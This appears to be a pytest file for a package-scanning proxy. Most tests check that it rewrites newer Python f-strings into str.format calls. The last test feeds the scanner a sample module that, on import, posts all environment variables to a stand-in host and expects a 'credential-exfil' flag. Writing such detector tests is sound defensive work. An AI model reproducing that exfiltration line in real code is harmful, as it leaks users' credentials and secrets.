"""f-strings of Python 3.12 and later (a field holding the string's own quotes, nested
f-strings, t-strings) rewritten as ``str.format`` calls that Python 3.11 parses
(``fstrings``), so that code beside one is read as code, not blanked.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import ast

import pytest

from pipgate.proxy.scan.fstrings import older_strings
from tests.support.archives import wheel
from tests.support.scan import judge


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('x = f"{d["k"]}"\n', 'x = "{}".format(d["k"])\n'),
        ('x = f"https://{host}/u?n={user!r}"\n', 'x = "https://{}/u?n={!r}".format(host, user)\n'),
        ('x = f"{v:>{width}}"\n', 'x = "{:>{}}".format(v, width)\n'),
        ('x = f"{a != b} {a == b}"\n', 'x = "{} {}".format(a != b, a == b)\n'),
        ('x = f"{total=}"\n', 'x = "{}".format(total)\n'),
        ('x = f"{(lambda y: y)(1)} {d[1:2]}"\n', 'x = "{} {}".format((lambda y: y)(1), d[1:2])\n'),
        ('x = f"{ {"a": 1}["a"] }"\n', 'x = "{}".format({"a": 1}["a"])\n'),
        ('x = f"{f"{f"{deep}"}"}"\n', 'x = "{}".format("{}".format("{}".format(deep)))\n'),
        ('x = rf"\\d{n}" + f"{{kept}}"\n', 'x = r"\\d{}".format(n) + "{kept}"\n'),
        ('x = t"hello {name}"\n', 'x = "hello {}".format(name)\n'),
    ],
)
def test_an_f_string_is_written_as_a_format_call(source: str, expected: str) -> None:
    rewritten = older_strings(source, keep_readable=False)
    assert rewritten == expected
    ast.parse(rewritten)


def test_an_f_string_this_python_reads_is_kept_as_it_is() -> None:
    source = 'a = f"https://{host}/x"\nb = f"{d["k"]}"\n'
    assert older_strings(source) == 'a = f"https://{host}/x"\nb = "{}".format(d["k"])\n'
    assert older_strings('a = f"https://{host}/x"\n') is None


def test_lines_stay_where_they_were() -> None:
    source = 'a = f"""one\n{os.system("id")}\nthree"""\nb = f"{x["k"]}"\nc = 3\n'
    rewritten = older_strings(source, keep_readable=False)
    assert rewritten is not None
    assert rewritten.count("\n") == source.count("\n")
    assert rewritten.splitlines()[3] == 'b = "{}".format(x["k"])'
    assert rewritten.splitlines()[4] == "c = 3"


@pytest.mark.parametrize(
    "source",
    [
        "x = 'plain {x}' + \"no fields\"\n",
        "# f'a comment {x'\ny = 1\n",
        "elif_ = 2\nprefix = 'f'\n",
    ],
)
def test_text_without_f_strings_is_left_alone(source: str) -> None:
    assert older_strings(source) is None


@pytest.mark.parametrize("source", ['x = f"{never ends\n', 'x = f"open', "x = f'{a'\n"])
def test_an_f_string_that_never_ends_gives_up(source: str) -> None:
    assert older_strings(source) is None


def test_a_payload_in_a_function_beside_a_newer_f_string_is_read() -> None:
    """One f-string of 3.12 inside the function that sends used to blank the function."""
    client = (
        "import os, requests\n"
        "def connect():\n"
        '    note = f"{os.environ["USER"]} connected"\n'
        "    requests.post('https://collect.example.net/u', json=dict(os.environ))\n"
        "connect()\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": client}), "demo-1.0-py3-none-any.whl")
    assert "credential-exfil" in rules
    assert held
